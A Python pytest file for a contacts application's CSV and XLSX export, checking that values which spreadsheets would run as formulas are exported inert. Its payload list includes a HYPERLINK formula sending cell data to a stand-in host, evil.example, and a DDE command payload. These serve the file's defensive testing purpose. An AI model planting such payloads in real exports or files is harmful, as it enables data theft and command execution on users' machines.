"""Text that a spreadsheet would run as a formula is exported inert (OWASP, CSV injection): a
quote in front in CSV and XLSX, and in XLSX a cell that is a string. Numbers stay numbers."""

from __future__ import annotations

import pytest
from openpyxl.cell.cell import Cell
from openpyxl.workbook import Workbook

from sampark.contacts.actions import create_contact
from sampark.customfields.models import FieldKind
from sampark.customfields.tests.factories import define
from sampark.exports.cells import CellKind, csv_cell, inert, restored, xlsx_cell
from sampark.exports.tests.reading import csv_records, xlsx_cells

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_starts_like_a_formula_gets_a_quote(payload):  # type: ignore[no-untyped-def]
    assert inert(payload) == "'" + payload
    assert csv_cell(payload, CellKind.TEXT) == "'" + payload
    assert restored(inert(payload)) == payload


@pytest.mark.parametrize("text", ["Rahim Uddin", "রবীন্দ্র", "a=b", " =1", "'quoted", ""])
def test_other_text_is_left_as_it_is(text):  # type: ignore[no-untyped-def]
    assert inert(text) == text
    assert restored(text) == text


def test_numbers_and_yes_or_no_are_written_as_what_they_are():  # type: ignore[no-untyped-def]
    sheet = Workbook(write_only=True).create_sheet()

    assert csv_cell(-5, CellKind.NUMBER) == "-5"
    assert xlsx_cell(sheet, -5, CellKind.NUMBER) == -5
    assert csv_cell(True, CellKind.BOOLEAN) == "true"
    assert xlsx_cell(sheet, False, CellKind.BOOLEAN) is False
    # Text stored in a number field long ago is text, and treated as such.
    assert csv_cell("=1+1", CellKind.NUMBER) == "'=1+1"


def test_an_xlsx_cell_that_would_be_read_as_an_error_value_is_a_string():  # type: ignore[no-untyped-def]
    sheet = Workbook(write_only=True).create_sheet()

    cell = xlsx_cell(sheet, "#N/A", CellKind.TEXT)

    assert isinstance(cell, Cell)
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_characters_xlsx_cannot_hold_are_dropped_not_fatal():  # type: ignore[no-untyped-def]
    sheet = Workbook(write_only=True).create_sheet()

    assert xlsx_cell(sheet, "bell\x07 and tab\t", CellKind.TEXT) == "bell and tab\t"


@pytest.fixture
def planted(people, teams):  # type: ignore[no-untyped-def]
    """A contact whose every text field someone filled with a formula, and a negative score."""
    define(FieldKind.NUMBER, "score", label="Score")
    define(FieldKind.TEXT, "motto", label="Motto")
    return create_contact(
        by=people["agent"],
        display_name=PAYLOADS[0],
        source=PAYLOADS[1],
        notes=PAYLOADS[4],
        phone="+8801711000001",
        tags=["-2+3"],
        custom={"score": -2, "motto": "@SUM(1)"},
    )


@pytest.mark.django_db
def test_a_csv_export_neutralises_every_planted_formula_and_quotes_phones(
    client, people, planted, export_url
):  # type: ignore[no-untyped-def]
    client.force_login(people["manager"])

    response = client.get(export_url("contacts"), {"format": "csv", "columns": "all"})

    (row,) = csv_records(response)
    assert row["Full name"] == "'" + PAYLOADS[0]
    assert row["Source"] == "'" + PAYLOADS[1]
    assert row["Notes"] == "'" + PAYLOADS[4]
    assert row["Tags"] == "'-2+3"
    assert row["Motto"] == "'@SUM(1)"
    assert row["Phone"] == "'+8801711000001"  # else Excel turns it into 8.80171E+12
    assert row["Score"] == "-2"


@pytest.mark.django_db
def test_an_xlsx_export_holds_text_as_strings_and_numbers_as_numbers(
    client, people, planted, export_url
):  # type: ignore[no-untyped-def]
    client.force_login(people["manager"])

    response = client.get(export_url("contacts"), {"format": "xlsx", "columns": "all"})

    header, cells = xlsx_cells(response)
    row = {label.value: cell.value for label, cell in zip(header, cells, strict=True)}
    assert row["Full name"] == "'" + PAYLOADS[0]
    assert row["Source"] == "'" + PAYLOADS[1]
    assert row["Tags"] == "'-2+3"
    assert row["Phone"] == "+8801711000001"  # a string cell needs no quote
    assert row["Score"] == -2
    kinds = {label.value: cell.data_type for label, cell in zip(header, cells, strict=True)}
    assert kinds["Full name"] == kinds["Phone"] == kinds["Notes"] == kinds["Motto"] == "s"
    assert kinds["Score"] == "n"
    assert "f" not in kinds.values()
